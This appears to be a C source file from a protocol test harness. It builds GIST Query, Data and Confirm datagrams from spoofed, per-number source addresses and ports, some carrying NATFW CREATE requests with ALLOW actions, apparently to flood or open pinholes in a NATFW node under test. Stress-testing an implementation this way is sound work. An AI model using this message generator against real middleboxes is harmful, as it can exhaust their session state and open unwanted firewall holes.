/* Queries and Confirms by the core's own codec; see message.h. */
#include "harness/attack/message.h"

#include "core/gist/message/message_build.h"
#include "core/gist/message/message_parse.h"
#include "core/natfw/message/message_build.h"
#include "core/natfw/node.h"

#include <string.h>

enum { QUERY_HOPS = 32, VALIDITY_MS = 30000, PORT_FIRST = 1024 };

static struct gist_mri flow_of(const struct attack *attack, unsigned long number)
{
    if (attack->flow.source.version != 0)
        return attack->flow;
    return (struct gist_mri){.source = attack_source(attack, number),
        .destination = attack->to,
        .source_prefix = 32,
        .destination_prefix = 32,
        .has_protocol = true,
        .protocol = 17,
        .has_source_port = true,
        .source_port = (uint16_t)(PORT_FIRST + number % 60000),
        .has_destination_port = true,
        .destination_port = (uint16_t)(PORT_FIRST + number / 60000)};
}

static struct gist_message message_of(
    const struct attack *attack, enum gist_message_type type, const struct gist_address *from)
{
    static const uint8_t identity[] = "attacker";
    struct gist_message message = {.header = {.version = GIST_VERSION,
                                       .hop_count = QUERY_HOPS,
                                       .nslp_id = NATFW_NSLP_ID,
                                       .type = (uint8_t)type,
                                       .source_is_peer = attack->flow.source.version == 0}};
    message.nli = (struct gist_nli){.validity_ms = VALIDITY_MS,
        .peer_identity = {identity, sizeof(identity) - 1},
        .interface_address = *from};
    gist_message_add(&message, GIST_OBJECT_MRI);
    gist_message_add(&message, GIST_OBJECT_SESSION_ID);
    gist_message_add(&message, GIST_OBJECT_NLI);
    return message;
}

static size_t datagram(const struct gist_message *message, uint8_t octets[ATTACK_DATAGRAM_MAX])
{
    static const uint8_t magic[GIST_MAGIC_LENGTH] = {0x4e, 0x04, 0xbd, 0xa5};
    memcpy(octets, magic, sizeof(magic));
    size_t length = gist_message_build(
        message, octets + GIST_MAGIC_LENGTH, ATTACK_DATAGRAM_MAX - GIST_MAGIC_LENGTH);
    return length > 0 ? GIST_MAGIC_LENGTH + length : 0;
}

size_t attack_query(
    const struct attack *attack, unsigned long number, uint8_t octets[ATTACK_DATAGRAM_MAX])
{
    static const uint8_t cookie[16] = "attacker";
    struct gist_address from = attack_source(attack, number);
    struct gist_message query = message_of(attack, GIST_QUERY, &from);
    query.header.context_free = query.header.reply_requested = true;
    query.mri = flow_of(attack, number);
    memcpy(query.session_id.octets, &number, sizeof(number));
    query.session_id.octets[15] = 1; /* never the one that is zero */
    query.query_cookie = (struct gist_octets){cookie, sizeof(cookie)};
    gist_message_add(&query, GIST_OBJECT_QUERY_COOKIE);
    return datagram(&query, octets);
}

static size_t create(
    const struct attack *attack, uint32_t sequence_number, uint8_t octets[NATFW_MESSAGE_MAX])
{
    struct natfw_message message = {.type = NATFW_CREATE,
        .lifetime_s = (uint32_t)attack->lifetime_s,
        .sequence_number = sequence_number,
        .efi = {.action = NATFW_ALLOW}};
    natfw_message_add(&message, NATFW_LT);
    natfw_message_add(&message, NATFW_EFI);
    natfw_message_add(&message, NATFW_MSN);
    return natfw_message_build(&message, octets, NATFW_MESSAGE_MAX);
}

/* The start of a message on what this Response is about; false when it is none. */
static bool follow(const struct attack *attack, enum gist_message_type type,
    const uint8_t *response, size_t length, struct gist_message *parsed,
    struct gist_message *message)
{
    struct gist_fault fault;
    if (length < GIST_MAGIC_LENGTH ||
        !gist_message_parse(
            response + GIST_MAGIC_LENGTH, length - GIST_MAGIC_LENGTH, parsed, &fault) ||
        parsed->header.type != GIST_RESPONSE)
        return false;
    *message = message_of(attack, type, &attack->from);
    message->header.source_is_peer = true;
    message->mri = gist_mri_reversed(&parsed->mri);
    message->session_id = parsed->session_id;
    return true;
}

size_t attack_data(const struct attack *attack, const uint8_t *response, size_t length,
    uint32_t sequence_number, uint8_t octets[ATTACK_DATAGRAM_MAX])
{
    uint8_t data[NATFW_MESSAGE_MAX];
    struct gist_message parsed, message;
    if (!follow(attack, GIST_DATA, response, length, &parsed, &message))
        return 0;
    message.nslp_data = (struct gist_octets){data, create(attack, sequence_number, data)};
    gist_message_add(&message, GIST_OBJECT_NSLP_DATA);
    return datagram(&message, octets);
}

size_t attack_confirm(const struct attack *attack, const uint8_t *response, size_t length,
    uint8_t octets[ATTACK_DATAGRAM_MAX])
{
    uint8_t data[NATFW_MESSAGE_MAX];
    struct gist_message parsed, confirm;
    if (!follow(attack, GIST_CONFIRM, response, length, &parsed, &confirm))
        return 0;
    confirm.responder_cookie = parsed.responder_cookie;
    gist_message_add(&confirm, GIST_OBJECT_RESPONDER_COOKIE);
    if (attack->with_create) {
        confirm.nslp_data = (struct gist_octets){data, create(attack, 1, data)};
        gist_message_add(&confirm, GIST_OBJECT_NSLP_DATA);
    }
    return datagram(&confirm, octets);
}
